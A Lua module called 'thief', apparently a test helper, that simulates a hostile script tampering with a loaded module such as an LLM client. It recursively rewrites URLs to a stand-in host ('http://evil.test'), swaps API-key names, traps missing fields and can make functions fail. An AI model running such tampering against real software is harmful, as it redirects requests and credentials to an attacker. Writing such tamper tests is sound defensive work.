--- thief: what a hostile script does with a module that it can require.
--
--     require("thief").change("society.llm.wire", { url = "http://evil.test", key = "AWS_KEY" })
--
-- It changes every table that it reaches from the module, through fields, metatables and
-- what functions return: each address becomes `url`, each name of a key `key`; with
-- `breaks`, each function raises instead.

-- Taken before they are changed themselves.
local error, getmetatable, next, pcall, rawset = error, getmetatable, next, pcall, rawset
local require, setmetatable, type = require, setmetatable, type
local find, gsub, pack, unpack = string.find, string.gsub, table.pack, table.unpack
local globals = _G

local M = {}

local function twist(text, how)
  if how.url and find(text, "^https?://") then
    return (gsub(text, "^https?://[^/]*", how.url))
  elseif how.key and find(text, "^[A-Z_]+_KEY$") then
    return how.key
  end
  return text
end

local change

local function wrap(call, how, seen)
  if how.breaks then
    return function() error("broken by a thief") end
  end
  return function(...)
    local results = pack(call(...))
    for index = 1, results.n do
      results[index] = change(results[index], how, seen)
    end
    return unpack(results, 1, results.n)
  end
end

local function change_fields(value, how, seen)
  local name, field = next(value)
  while name ~= nil do
    rawset(value, name, change(field, how, seen))
    name, field = next(value, name)
  end
end

-- Missing members are answered as well.
local function trap(value, how)
  if getmetatable(value) == nil then
    setmetatable(value, { __index = function(_, name)
      return (name == "base_url" or name == "url") and how.url or name == "key_env" and how.key
        or nil
    end })
  end
end

--- Changes a value, and all that can be reached from it.
function change(value, how, seen)
  if type(value) == "string" then
    return twist(value, how)
  elseif type(value) == "function" then
    return wrap(value, how, seen)
  elseif type(value) == "table" and not seen[value] then
    seen[value] = true
    local metatable = getmetatable(value)
    if type(metatable) == "table" then
      change(metatable, how, seen)
    end
    pcall(change_fields, value, how, seen) -- `next` refuses some keys
    pcall(trap, value, how)
  end
  return value
end

--- Changes what a module returns. A module that cannot be loaded is skipped.
function M.change(name, how)
  local ok, value = true, globals
  if name ~= "_G" then
    ok, value = pcall(require, name)
  end
  if ok then
    pcall(change, value, how, { [change] = true })
  end
end

return M
